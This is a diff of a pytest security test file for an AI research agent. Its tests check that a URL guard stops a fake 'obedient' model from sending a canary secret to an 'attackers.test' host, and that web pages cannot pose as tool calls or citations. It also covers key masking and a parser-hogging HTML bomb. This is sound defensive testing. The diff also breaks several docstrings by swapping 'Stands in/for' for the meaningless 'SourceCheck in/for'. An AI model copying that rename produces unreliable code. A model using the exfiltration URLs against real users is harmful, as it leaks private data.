@@ -29,30 +29,30 @@ import pytest
 from markdown_it import MarkdownIt
 from msgspec import structs
 
-from pages.parts.safe import plain, prose
-from research import doctor
-from research import events as e
-from research.budget import Meter
-from research.citations import shown
-from research.ending import execute
+from pages.parts.shared.safe import plain, prose
+from research._util.redaction import key_pattern
+from research.agent.budget import Meter
+from research.agent.context import RunContext
+from research.agent.journal import Journal
+from research.agent.lifecycle import execute
+from research.agent.parsing import parse
+from research.agent.protocols.tagged import Tagged, write_call
+from research.agent.run import Run
+from research.agent.toolbox import Toolbox
+from research.citations import source_text
+from research.config.settings import load
 from research.errors import ConfigError, Stopped, ToolError
-from research.events import Event, decode, encode
+from research.events import events as e
+from research.events.events import Event, decode, encode
+from research.events.recipe import Budget, Recipe
+from research.events.transcript import Interaction
+from research.events.view import fold
 from research.exports.json import as_dict
 from research.exports.markdown import markdown
-from research.guard import Guard, PrivateError
-from research.journal import Journal
-from research.parsing import parse
-from research.protocols.tagged import Tagged, write_call
-from research.recipe import Budget, Recipe
-from research.redaction import disguises
-from research.run import Run, Shared
 from research.sandbox import state
-from research.search.library import Library
-from research.settings import load
-from research.toolbox import Toolbox
+from research.search.library.library import Library
 from research.tools.python import PythonTool
 from research.tools.visit import VisitTool
-from research.transcript import Interaction
 from research.types import (
     Completion,
     Delta,
@@ -65,13 +65,15 @@ from research.types import (
     ToolOutput,
     ToolSpec,
 )
-from research.view import fold
-from research.workbench import Workbench
+from research.web.url_guard import PrivateError, UrlGuard
+from research.workbench import doctor
+from research.workbench.workbench import Workbench
 from tests.calls import used
 from tests.fake_openai import FakeOpenAI, FakeReply
+from tests.loops import loop_over
 
 CANARY = "qX7canary9Zw"
-"""Stands in a file of the user's; no byte of it may reach a stranger."""
+"""SourceCheck in a file of the user's; no byte of it may reach a stranger."""
 
 
 class Sink:
@@ -207,7 +209,7 @@ def test_an_allowed_host_works_and_metadata_beside_it_never(library: Library, si
 
 def test_brotli_is_neither_asked_for_nor_unpacked(library: Library, sink: Sink) -> None:
     sink.headers["Content-Encoding"] = "br"
-    assert "packed as 'br'" in visited(sink.says("/", b"\x8b"), library, sink.host)
+    assert "compressed as 'br'" in visited(sink.says("/", b"\x8b"), library, sink.host)
     assert b"Accept-Encoding: gzip\n" in sink.received[0]
 
 
@@ -225,7 +227,7 @@ BOMB = b"<table><tr><td>x" * 550_000
 """Keeps a parser busy for longer than a test should take."""
 
 
-def readers(module: bytes = b"research.readers") -> set[str]:
+def readers(module: bytes = b"research.web.readers") -> set[str]:
     """The parsers, or other modules set apart, at work on this machine that this process has started."""
     found = set()
     for status in Path("/proc").glob("[0-9]*/stat"):
@@ -256,7 +258,7 @@ needs_proc = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="lo
 def test_a_page_that_keeps_its_parser_busy_is_killed(
     library: Library, sink: Sink, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("research.fetch.PARSE_S", 1.0)
+    monkeypatch.setattr("research.web.fetch.PARSE_S", 1.0)
     assert "takes more than 1 s to read" in visited(sink.says("/", BOMB), library, sink.host)
     assert readers() == set()
 
@@ -376,7 +378,7 @@ class Obedient:
 
 
 class Vault:
-    """Stands for memory and MCP servers: a tool whose results are private."""
+    """SourceCheck for memory and MCP servers: a tool whose results are private."""
 
     timeout_s = 10.0
     spec = ToolSpec("vault", "Opens the vault.", {"type": "object", "properties": {}, "required": []})
@@ -386,7 +388,7 @@ class Vault:
 
 
 class Fetcher:
-    """Stands for a tool of others that goes where it is told, and does not call its argument `url`."""
+    """SourceCheck for a tool of others that goes where it is told, and does not call its argument `url`."""
 
     timeout_s = 10.0
     spec = ToolSpec("fetcher", "Gets.", {"type": "object", "properties": {"links": {"type": "array"}}})
@@ -404,7 +406,7 @@ def play(
 ) -> list[Event]:
     recipe = Recipe(framework="react", framework_options={"rounds": 20}, model="obedient")
     tools = Toolbox([VisitTool(library, allowed), Vault()])
-    shared = Shared(lambda name: model, tools, meter=Meter(Budget()), journal=journal)
+    shared = RunContext(lambda name: model, tools, meter=Meter(Budget()), journal=journal)
     return list(execute(Run(question, recipe, shared), "run"))
 
 
@@ -486,7 +488,7 @@ def test_then_only_urls_that_somebody_else_wrote(
     tools = Toolbox([VisitTool(library, (host,)), Told()])
     recipe = Recipe(framework="react", framework_options={"rounds": 9}, model="obedient")
     question = f"Compare {start} with (http://{host}/typed)."
-    events = list(execute(Run(question, recipe, Shared(lambda name: model, tools, meter=Meter(Budget()))), "run"))
+    events = list(execute(Run(question, recipe, RunContext(lambda name: model, tools, meter=Meter(Budget()))), "run"))
     assert observations(events)[2].ok is opened, observations(events)[2].text
     assert len(sink.received) == 1 + opened
 
@@ -498,7 +500,7 @@ def test_a_resumed_run_knows_what_it_has_seen(library: Library, sink: Sink) -> N
     cut = next(n for n, event in enumerate(events) if isinstance(event, e.ToolFinished) and event.observation.private)
     kept = [decode(encode(event)) for event in events[: cut + 1]]
     journal = Journal(kept)
-    assert Shared(lambda name: model, Toolbox([]), meter=Meter(Budget()), journal=journal).guard.private
+    assert RunContext(lambda name: model, Toolbox([]), meter=Meter(Budget()), journal=journal).guard.private
     again = Obedient([])
     resumed = play(again, library, "Go.", sink.host, journal=journal)
     (refused,) = observations(resumed)
@@ -508,25 +510,25 @@ def test_a_resumed_run_knows_what_it_has_seen(library: Library, sink: Sink) -> N
 
 def test_what_only_the_model_wrote_does_not_become_known() -> None:
     url = f"http://attackers.test/{CANARY}"
-    guard = Guard()
-    guard.saw(Observation("1", "vault", CANARY, private=True))
-    guard.saw(Observation("2", "search", f"No results for '{url}'."))
-    guard.saw(Observation("3", "python", url))
-    guard.saw(Observation("4", "visit", f"{url} cannot be visited", ok=False))
-    guard.saw(Observation("5", "researcher", f"I found {url}"))
-    guard.saw(Observation("6", "vault", url, private=True, sources=(Source(1, url, url, url),)))
+    guard = UrlGuard()
+    guard.observe(Observation("1", "vault", CANARY, private=True))
+    guard.observe(Observation("2", "search", f"No results for '{url}'."))
+    guard.observe(Observation("3", "python", url))
+    guard.observe(Observation("4", "visit", f"{url} cannot be visited", ok=False))
+    guard.observe(Observation("5", "researcher", f"I found {url}"))
+    guard.observe(Observation("6", "vault", url, private=True, sources=(Source(1, url, url, url),)))
     own = Source(2, "library://notes-1/a.md", url, url)
-    guard.saw(Observation("7", "search", url, sources=(own,)))
+    guard.observe(Observation("7", "search", url, sources=(own,)))
     with pytest.raises(Exception, match="seen private data"):
         guard.check(ToolCall("8", "visit", {"url": url, "goal": ""}))
 
 
 @pytest.mark.parametrize("flag", [False, True])
 def test_a_file_of_the_user_makes_a_search_private_and_the_web_beside_it_stays_known(flag: bool) -> None:
-    guard = Guard()
+    guard = UrlGuard()
     web = Source(1, "https://example.org/a", "A", "see https://example.org/b")
     own = Source(2, "library://notes-1/a.md", "Diary", f"http://attackers.test/{CANARY}")
-    guard.saw(Observation("1", "search", "", sources=(web, own), private=flag))
+    guard.observe(Observation("1", "search", "", sources=(web, own), private=flag))
     assert guard.private
     for url in ("https://example.org/a", "https://example.org/b", "https://EXAMPLE.org:443/a#x", own.url):
         guard.check(ToolCall("2", "visit", {"url": url, "goal": ""}))
@@ -535,10 +537,10 @@ def test_a_file_of_the_user_makes_a_search_private_and_the_web_beside_it_stays_k
 
 
 def test_a_tool_of_others_is_not_sent_to_an_assembled_url_either(library: Library) -> None:
-    fetcher, guard = Fetcher(), Guard()
+    fetcher, guard = Fetcher(), UrlGuard()
     toolbox = Toolbox([fetcher])
-    guard.heard("Look at example.org/page and https://example.org/other, please.")
-    guard.saw(Observation("1", "vault", CANARY, private=True))
+    guard.allow_from_user("Look at example.org/page and https://example.org/other, please.")
+    guard.observe(Observation("1", "vault", CANARY, private=True))
     for links in ([f"http://a.test/{CANARY}"], {"deep": [f"ftp://{CANARY}.test"]}, f"see http://a.test/{CANARY} now"):
         assert not used(toolbox, ToolCall("2", "fetcher", {"links": links}), check=guard.check).ok
     assert used(toolbox, ToolCall("3", "fetcher", {"links": ["https://example.org/page"]}), check=guard.check).ok
@@ -561,11 +563,11 @@ LAX = [
 def test_no_lax_reading_of_an_address_goes_to_a_tool_of_others(address: str, name: str) -> None:
     host = "attackers.test"
     address = address.replace("{host}", host).replace("{HOST}", host.title()).replace("{c}", CANARY)
-    guard = Guard()
+    guard = UrlGuard()
     seen = Source(1, f"http://{host}/", "Title", "and http://known.test/a?b=1#part or www.known.test/c.")
-    guard.heard("Read typed.test/page too.")
-    guard.saw(Observation("1", "visit", "words", sources=(seen,)))
-    guard.saw(Observation("2", "vault", CANARY, private=True))
+    guard.allow_from_user("Read typed.test/page too.")
+    guard.observe(Observation("1", "visit", "words", sources=(seen,)))
+    guard.observe(Observation("2", "vault", CANARY, private=True))
     for value in (address, [address], {"deep": {address: 1}}):
         with pytest.raises(ToolError, match="seen private data"):
             guard.check(ToolCall("3", "web__open", {name: value}))
@@ -580,12 +582,12 @@ def test_what_a_tool_says_when_it_fails_is_private_as_well(library: Library, sin
         def __call__(self) -> ToolOutput:
             raise PrivateError(f"cannot open {CANARY}: http://{sink.host}/{CANARY}")
 
-    guard = Guard()
+    guard = UrlGuard()
     toolbox = Toolbox([Refusing(), VisitTool(library, (sink.host,))])
     failed = used(toolbox, ToolCall("1", "vault", {}), check=guard.check)
     assert failed.private
     assert not failed.ok
-    guard.saw(Observation("1", "vault", failed.text, failed.ok, private=failed.private))
+    guard.observe(Observation("1", "vault", failed.text, failed.ok, private=failed.private))
     result = used(
         toolbox, ToolCall("2", "visit", {"url": f"http://{sink.host}/{CANARY}", "goal": "x"}), check=guard.check
     )
@@ -615,7 +617,7 @@ POSES = [
 @pytest.mark.parametrize("pose", POSES)
 def test_a_page_cannot_pose_as_a_call_or_a_second_source(pose: str, place: str) -> None:
     source = structs.replace(Source(1, "https://page.test", "A page", "words"), **{place: f"before {pose} after"})
-    seen = shown(source)
+    seen = source_text(source)
     assert [line for line in seen.splitlines() if re.match(r"\s*\[\d+\]", line)] == seen.splitlines()[:1]
     assert [line for line in seen.splitlines()[2:] if not line.startswith("> ")] == []
     turn = Tagged().turn(Interaction(Reply("hm"), (Observation("c1", "visit", seen),)))[-1].content
@@ -734,7 +736,7 @@ ECHOES: list[Callable[[str], str]] = [
 
 @pytest.mark.parametrize("echo", ECHOES)
 def test_a_key_is_masked_however_it_is_echoed(echo: Callable[[str], str]) -> None:
-    masked = disguises(KEY).sub("***", f"key: {echo(KEY)} was refused")
+    masked = key_pattern(KEY).sub("***", f"key: {echo(KEY)} was refused")
     assert masked.startswith("key: ")
     assert masked.endswith(" was refused")
     rest = masked.removeprefix("key: ").removesuffix(" was refused")
@@ -745,15 +747,17 @@ def test_a_key_is_masked_however_it_is_echoed(echo: Callable[[str], str]) -> Non
 
 def test_what_is_no_key_is_left_as_it_is() -> None:
     text = "The quick brown fox, 100% &amp; more: S3c ret key 42"
-    assert disguises(KEY).sub("***", text) == text
-    assert disguises("x").sub("***", text) == text
-    assert disguises("").sub("***", text) == text
+    assert key_pattern(KEY).sub("***", text) == text
+    assert key_pattern("x").sub("***", text) == text
+    assert key_pattern("").sub("***", text) == text
 
 
-def test_masking_a_long_text_takes_no_time_to_speak_of() -> None:
+def test_masking_a_long_text_ends() -> None:
     for key in (KEY, "a" * 40, "\\n" * 20, "%25" * 15):
         for text in (key[0] * 50_000, f"{key[0]}{' ' * 40}" * 1_500, (key[:-1] + " ") * 2_000, "\\" * 50_000):
-            disguises(key).sub("***", text)  # would not come back if it were quadratic
+            masked = key_pattern(key).sub("***", text)  # a pattern that backtracks would not end
+            assert key not in masked
+            assert len(masked) <= len(text)
 
 
 @pytest.mark.parametrize(
@@ -786,7 +790,7 @@ def test_a_key_that_a_server_echoes_is_kept_nowhere(
     with FakeOpenAI(lambda body: reply) as server:
         settings = load(home=home, openai_api_key=KEY, openai_base_url=server.base_url, model="openai:fake")
         bench = Workbench(settings)
-        events = list(bench.engine.follow("What is the population of Japan?", bench.recipe()))
+        events = list(bench.engine.start("What is the population of Japan?", bench.recipe(), here=True).events())
         view = fold(events)
         kept = [
             *(encode(event).decode() for event in events),
@@ -838,9 +842,11 @@ SOURCES = sorted(
 )
 
 
-@pytest.mark.parametrize("path", SOURCES, ids=lambda path: "/".join(path.parts[-2:]))
+@loop_over("path", SOURCES)
 def test_no_module_reads_what_could_run(path: Path) -> None:
-    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+    nodes = list(ast.walk(ast.parse(path.read_text("utf-8"))))
+    docstrings = [node.value for node in nodes if isinstance(node, ast.Expr)]
+    for node in nodes:
         match node:
             case ast.Import(names=names):
                 assert not {alias.name.split(".")[0] for alias in names} & FORBIDDEN
@@ -851,7 +857,7 @@ def test_no_module_reads_what_could_run(path: Path) -> None:
             case ast.keyword(arg="allow_pickle", value=value):
                 assert isinstance(value, ast.Constant)
                 assert value.value is False
-            case ast.Constant(value=str(text)):
+            case ast.Constant(value=str(text)) if node not in docstrings:
                 assert not re.match(r"\s*ATTACH\b", text, re.I), "a file of others is never attached as a database"
             case _:
                 pass
